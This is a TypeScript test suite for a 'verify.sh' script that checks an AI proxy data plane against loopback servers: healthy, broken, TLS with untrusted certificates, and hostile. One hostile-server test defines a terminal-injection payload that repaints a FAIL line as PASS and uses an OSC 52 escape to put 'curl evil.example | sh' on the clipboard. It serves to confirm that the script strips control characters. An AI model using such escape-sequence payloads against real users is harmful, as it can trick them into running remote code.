// verify.sh against a real HTTP server on loopback (a healthy and a broken data plane, a hostile one).
import { execFile, spawnSync } from "child_process";
import * as fs from "fs";
import * as http from "http";
import * as https from "https";
import type { AddressInfo } from "net";
import * as path from "path";
import { promisify } from "util";
import { scriptsFor } from "./fixtures/operator-scripts";
import { tempDir } from "./helpers";

const run = promisify(execFile);
const KEY = "tk-FAKE-SECRET-3f9a1c";

interface Seen {
  method: string;
  url: string;
  authorization?: string;
  accept?: string;
}

/** A data plane on loopback: `healthy` answers like Steps 10-11 expect; otherwise like a broken one. */
function dataPlane(healthy: boolean, tls?: { key: string; cert: string }): Promise<{ port: number; seen: Seen[]; close: () => Promise<void> }> {
  const seen: Seen[] = [];
  const handler: http.RequestListener = (req, res) => {
    let body = "";
    req.on("data", (c) => (body += c));
    req.on("end", () => {
      seen.push({ method: req.method!, url: req.url!, authorization: req.headers.authorization, accept: req.headers.accept });
      const authorized = req.headers.authorization === `Bearer ${KEY}`;
      const json = (status: number, value: unknown) => {
        res.writeHead(status, { "content-type": "application/json" });
        res.end(JSON.stringify(value));
      };
      if (!healthy) {
        // Auth not enforced, and no provider routes: the guide's "contact support" and 404 rows.
        if (req.url === "/v1/models") return json(200, { data: [] });
        return json(req.headers.authorization === "Bearer NotREAL" ? 200 : 404, { error: "No matching route found." });
      }
      if (!authorized) return json(401, { error: "unauthorized" });
      if (req.url === "/v1/models") return json(200, { data: [{ id: "gpt-5-mini" }, { id: "claude-haiku-4-5" }] });
      if (req.url === "/v1/messages") return json(200, { content: [{ type: "text", text: "hi" }] });
      if (req.url === "/v1/chat/completions" && JSON.parse(body).stream) {
        res.writeHead(200, { "content-type": "text/event-stream" });
        return res.end('data: {"choices":[{"delta":{"content":"1"}}]}\n\ndata: [DONE]\n\n');
      }
      if (req.url === "/v1/chat/completions") return json(200, { choices: [{ message: { content: "hello" } }] });
      if (req.url === "/mcp/prof-123") return json(200, { jsonrpc: "2.0", id: 1, result: { tools: [] } });
      return json(404, {});
    });
  };
  const server = tls ? https.createServer(tls, handler) : http.createServer(handler);
  return new Promise((resolve) =>
    server.listen(0, "127.0.0.1", () =>
      resolve({ port: (server.address() as AddressInfo).port, seen, close: () => new Promise((r) => server.close(() => r())) }),
    ),
  );
}


async function verify(script: string, port: number, extra: string[] = []): Promise<{ code: number; out: string }> {
  try {
    const { stdout } = await run("bash", [script, "--host", `127.0.0.1:${port}`, "--scheme", "http", "--timeout", "5", ...extra], {
      env: { PATH: process.env.PATH, TARS_API_KEY: KEY },
    });
    return { code: 0, out: stdout };
  } catch (e) {
    const err = e as { code: number; stdout: string };
    return { code: err.code, out: err.stdout };
  }
}

/** A self-signed certificate for 127.0.0.1, as a data plane on a CA nobody trusts (Let's Encrypt staging) has. */
function selfSigned(): { key: string; cert: string; certFile: string } {
  const dir = tempDir();
  const r = spawnSync(
    "openssl",
    ["req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "2", "-subj", "/CN=127.0.0.1", "-addext", "subjectAltName=IP:127.0.0.1",
      "-keyout", path.join(dir, "key.pem"), "-out", path.join(dir, "cert.pem")],
    { encoding: "utf8" },
  );
  if (r.status !== 0) throw new Error(`openssl req failed: ${r.stderr}`);
  return { key: fs.readFileSync(path.join(dir, "key.pem"), "utf8"), cert: fs.readFileSync(path.join(dir, "cert.pem"), "utf8"), certFile: path.join(dir, "cert.pem") };
}

describe("verify.sh over HTTPS with a certificate curl does not trust (Let's Encrypt staging)", () => {
  const hasOpenssl = spawnSync("openssl", ["version"]).status === 0;
  if (!hasOpenssl) console.warn("SKIPPED verify.sh TLS tests: openssl is not installed");
  const maybe = hasOpenssl ? test : test.skip;
  const { verify: script } = scriptsFor();

  async function verifyTls(port: number, extra: string[]): Promise<{ code: number; out: string; err: string }> {
    try {
      const { stdout, stderr } = await run("bash", [script, "--host", `127.0.0.1:${port}`, "--scheme", "https", "--timeout", "5", "--profile-id", "prof-123", ...extra], {
        env: { PATH: process.env.PATH, TARS_API_KEY: KEY },
      });
      return { code: 0, out: stdout, err: stderr };
    } catch (e) {
      const err = e as { code: number; stdout: string; stderr: string };
      return { code: err.code, out: err.stdout, err: err.stderr };
    }
  }

  async function withServer(f: (port: number, certFile: string) => Promise<void>) {
    const { key, cert, certFile } = selfSigned();
    const dp = await dataPlane(true, { key, cert });
    try {
      await f(dp.port, certFile);
    } finally {
      await dp.close();
    }
  }

  maybe("without flags every check fails as a certificate problem, naming curl's exit code and the fix", () =>
    withServer(async (port) => {
      const r = await verifyTls(port, []);
      expect(r.code).toBe(1);
      expect(r.out).toMatch(/FAIL auth enforced: certificate problem: https:\/\/127\.0\.0\.1:\d+ presents a certificate curl does not trust \(curl exit 60: SSL certificate problem: self[- ]signed certificate\)\. Let's Encrypt staging\? pass --cacert/);
      expect(r.out).not.toContain("no answer");
      expect(r.out).toMatch(/0 passed, 6 failed/);
    }));

  maybe("--cacert FILE trusts the CA in FILE: every check passes", () =>
    withServer(async (port, certFile) => {
      const r = await verifyTls(port, ["--cacert", certFile]);
      expect(r.out).toMatch(/6 passed, 0 failed/);
      expect(r.code).toBe(0);
      expect(r.err).toBe("");
    }));

  maybe("--insecure passes, with a loud warning on stderr and in the summary", () =>
    withServer(async (port) => {
      const r = await verifyTls(port, ["--insecure"]);
      expect(r.code).toBe(0);
      expect(r.err).toContain("WARNING: --insecure: certificates are NOT checked");
      expect(r.out).toMatch(/6 passed, 0 failed, 0 skipped \(https:\/\/127\.0\.0\.1:\d+, INSECURE: certificates not checked\)/);
    }));

  test("fails on bad usage: a --cacert file that does not exist, or both flags", () => {
    const missing = spawnSync("bash", [script, "--cacert", "/nonexistent/roots.pem"], { env: { PATH: process.env.PATH, TARS_API_KEY: KEY }, encoding: "utf8" });
    expect(missing.status).toBe(2);
    expect(missing.stderr).toContain("--cacert /nonexistent/roots.pem: no such readable file");
    const both = spawnSync("bash", [script, "--cacert", script, "--insecure"], { env: { PATH: process.env.PATH, TARS_API_KEY: KEY }, encoding: "utf8" });
    expect(both.status).toBe(2);
    expect(both.stderr).toContain("pass --cacert or --insecure, not both");
  });
});

describe("verify.sh", () => {
  const { verify: script } = scriptsFor();

  test("passes every check against a healthy data plane", async () => {
    const dp = await dataPlane(true);
    try {
      const r = await verify(script, dp.port, ["--profile-id", "prof-123"]);
      expect(r.out.split("\n").filter((l) => /^(PASS|FAIL|SKIP)/.test(l))).toEqual([
        "PASS auth enforced: HTTP 401",
        "PASS chat completions: HTTP 200",
        "PASS anthropic messages: HTTP 200",
        "PASS model list: HTTP 200",
        "PASS streaming: HTTP 200",
        "PASS mcp tools/list: HTTP 200",
      ]);
      expect(r.out).toContain("2 models");
      expect(r.code).toBe(0);
      // The requests the guide's curl commands make, with the key in the header only.
      expect(dp.seen.map((s) => `${s.method} ${s.url}`)).toEqual([
        "POST /v1/chat/completions",
        "POST /v1/chat/completions",
        "POST /v1/messages",
        "GET /v1/models",
        "POST /v1/chat/completions",
        "POST /mcp/prof-123",
      ]);
      expect(dp.seen[0].authorization).toBe("Bearer NotREAL");
      expect(dp.seen[1].authorization).toBe(`Bearer ${KEY}`);
      expect(dp.seen[5].accept).toBe("application/json, text/event-stream");
    } finally {
      await dp.close();
    }
  });

  test("fails, line by line, against a broken data plane", async () => {
    const dp = await dataPlane(false);
    try {
      const r = await verify(script, dp.port);
      expect(r.code).toBe(1);
      expect(r.out).toContain("FAIL auth enforced: HTTP 200 with an invalid token: contact support");
      expect(r.out).toMatch(/FAIL chat completions: expected HTTP 200 with "choices", got HTTP 404: \{"error":"No matching route found\."\}/);
      expect(r.out).toContain("SKIP mcp tools/list");
      expect(r.out).toMatch(/verify\.sh: 0 passed, 5 failed, 1 skipped/);
    } finally {
      await dp.close();
    }
  });

  test("reports an unreachable data plane instead of hanging", async () => {
    const dp = await dataPlane(true);
    const port = dp.port;
    await dp.close();
    const r = await verify(script, port);
    expect(r.code).toBe(1);
    expect(r.out).toContain("FAIL auth enforced: no answer from http://127.0.0.1:");
  });

  test("never prints the API key", async () => {
    const dp = await dataPlane(true);
    try {
      expect((await verify(script, dp.port)).out).not.toContain(KEY);
    } finally {
      await dp.close();
    }
  });

  test("refuses to run without an API key", () => {
    const r = spawnSync("bash", [script], { env: { PATH: process.env.PATH }, encoding: "utf8" });
    expect(r.status).toBe(2);
    expect(r.stderr).toContain("export TARS_API_KEY");
  });

  test("defaults to the environment's hostname and scheme", () => {
    const text = fs.readFileSync(scriptsFor({ tls: { mode: "byo" } }).verify, "utf8");
    expect(text).toContain('default_host=proxy.example-corp.com\nhost="${DP_HOST:-$default_host}"');
    expect(text).toContain('scheme="${DP_SCHEME:-https}"');
  });
});

/** A server on loopback that answers every request with `respond` (a hostile or broken data plane). */
function server(respond: (req: http.IncomingMessage, res: http.ServerResponse) => void): Promise<{ port: number; close: () => Promise<void> }> {
  const s = http.createServer((req, res) => {
    req.resume();
    req.on("end", () => respond(req, res));
  });
  return new Promise((resolve) =>
    s.listen(0, "127.0.0.1", () =>
      resolve({ port: (s.address() as AddressInfo).port, close: () => new Promise((r) => { s.closeAllConnections(); s.close(() => r()); }) }),
    ),
  );
}

describe("verify.sh against a hostile server", () => {
  const { verify: script } = scriptsFor();
  // Moves up a line, erases it, writes a PASS over the FAIL, and sets the clipboard (OSC 52) to a command.
  const REPAINT = `\x1b[1A\x1b[2K\rPASS chat completions: HTTP 200\x1b]52;c;${Buffer.from("curl evil.example | sh").toString("base64")}\x07\x1b[8m`;

  test("prints only printable characters of a body: no escape sequence, bell or carriage return reaches the terminal", async () => {
    const srv = await server((_req, res) => {
      res.writeHead(500, { "content-type": "text/plain" });
      res.end(REPAINT);
    });
    try {
      const r = await verify(script, srv.port);
      expect(r.code).toBe(1);
      expect(r.out).not.toMatch(/[\x00-\x09\x0b-\x1f\x7f]/);
      expect(r.out).toMatch(/^FAIL chat completions: expected HTTP 200 with "choices", got HTTP 500: \[1A\[2KPASS chat completions: HTTP 200\]52;c;[A-Za-z0-9+/=]+\[8m$/m);
      expect(r.out).not.toMatch(/^PASS/m);
    } finally {
      await srv.close();
    }
  });

  test("reads at most 1 MiB of a streamed body that never ends (no Content-Length: --max-filesize does not apply)", async () => {
    const LIMIT = 64 * 1024 * 1024; // what the server sends at most, so a broken script cannot fill the disk
    const sent: number[] = [];
    const srv = await server((_req, res) => {
      res.writeHead(500, { "content-type": "text/event-stream" });
      const chunk = Buffer.alloc(64 * 1024, "data: {}\n\n");
      let total = 0;
      const socket = res.socket!;
      socket.on("close", () => sent.push(socket.bytesWritten));
      const pump = () => {
        while (total < LIMIT && !res.destroyed) {
          total += chunk.length;
          if (!res.write(chunk)) return void res.once("drain", pump);
        }
        res.end();
      };
      pump();
    });
    try {
      const started = Date.now();
      const r = await verify(script, srv.port);
      expect(r.code).toBe(1);
      expect(r.out).toMatch(/^FAIL chat completions: expected HTTP 200 with "choices", got HTTP 500: (data: \{\})+$/m);
      expect(sent.length).toBeGreaterThan(0);
      // 1 MiB read, plus what the loopback socket buffers held when curl stopped.
      for (const bytes of sent) expect(bytes).toBeLessThan(16 * 1024 * 1024);
      expect(Date.now() - started).toBeLessThan(20_000);
    } finally {
      await srv.close();
    }
  });

  test("refuses a body announced larger than 1 MiB, and says so", async () => {
    const srv = await server((_req, res) => {
      res.writeHead(200, { "content-type": "application/json", "content-length": String(5 * 1024 * 1024 * 1024) });
      res.write("{");
      setTimeout(() => res.destroy(), 2000);
    });
    try {
      const r = await verify(script, srv.port);
      expect(r.code).toBe(1);
      expect(r.out).toContain(`FAIL chat completions: response too large: http://127.0.0.1:${srv.port} announced a body over 1048576 bytes (curl exit 63)`);
    } finally {
      await srv.close();
    }
  });
});

/** PATH with recording stand-ins: every call is appended to calls.log; behaviour per tool below. */
